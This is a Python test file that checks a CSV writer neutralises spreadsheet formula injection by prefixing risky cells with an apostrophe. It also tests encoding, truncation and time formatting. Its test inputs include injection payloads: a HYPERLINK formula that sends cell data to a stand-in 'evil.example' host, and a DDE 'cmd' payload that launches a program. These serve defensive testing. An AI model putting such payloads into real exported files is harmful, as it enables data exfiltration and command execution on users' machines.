"""CSV that a spreadsheet shows and never computes."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kova.reports.csv_text import write_csv
from kova.reports.table import CELL_CHARACTERS, Table, cell, row_bytes

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def written(*values: object) -> list[str]:
    """Return the cells of a row as a program reads them."""
    row = tuple(cell(value) for value in values)
    columns = tuple(f"c{index}" for index in range(len(row)))
    text = write_csv(Table(title="t", columns=columns, rows=(row,))).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == list(columns)
    (cells,) = rows
    return cells


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example?"&A1,"Error")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        '"=1+1',
        "\uff1d1+1",
    ],
)  # fmt: skip
def test_what_begins_like_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    (shown,) = written(text)
    assert shown.startswith("'")
    assert shown.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["a;=1+1", 'a";=1+1', "a\n=1+1", "a\t@SUM(1)", "a; -1"])
def test_what_begins_a_cell_where_semicolons_split_has_one_too(text: str) -> None:
    (shown,) = written(text)
    for sign in ";\n\t":
        for part in shown.split(sign):
            assert not part.lstrip(' "').startswith(FORMULAS)


@pytest.mark.parametrize(
    "text", ["a = b", "src/app.py", "a-b", "R1", "\u00e4\u4e2d\U0001f600", "'x"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert written(text) == [text]


def test_values_are_figures_and_times_in_utc() -> None:
    moment = datetime(2026, 11, 30, 8, 15, tzinfo=UTC)
    assert written(-3, Decimal("0.25"), None, moment, True) == [
        "-3", "0.25", "", "2026-11-30 08:15:00", "True",
    ]  # fmt: skip


def test_what_no_file_can_hold_is_replaced_and_long_texts_are_cut() -> None:
    assert written("a\x00b\x1bc\ud800") == ["a\ufffdb c\ufffd"]
    (long,) = written("x" * 100_000)
    assert len(long) == CELL_CHARACTERS


def test_excel_and_programs_read_the_same_utf_8() -> None:
    content = write_csv(Table(title="t", columns=("\u00e4",), rows=()))
    assert content == b"\xef\xbb\xbf\xc3\xa4\r\n"


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_no_text_becomes_a_formula_or_another_cell(texts: list[str]) -> None:
    cells = written(*texts)
    assert len(cells) == len(texts)
    for shown in cells:
        assert not shown.startswith(FORMULAS)


@pytest.mark.parametrize("text", [";=" * 490, '"' * 200, "=1", "\t=", "plain"])
def test_a_row_is_counted_with_all_that_is_added_to_it(text: str) -> None:
    row = (cell(text), cell(1), None)
    columns = ("a", "b", "c")
    content = write_csv(Table(title="t", columns=columns, rows=(row,))).decode("utf-8-sig")
    line = content.split("\r\n", 1)[1]
    assert row_bytes(row) >= len(json.dumps(line.rstrip("\r\n"), ensure_ascii=False).encode()) - 8
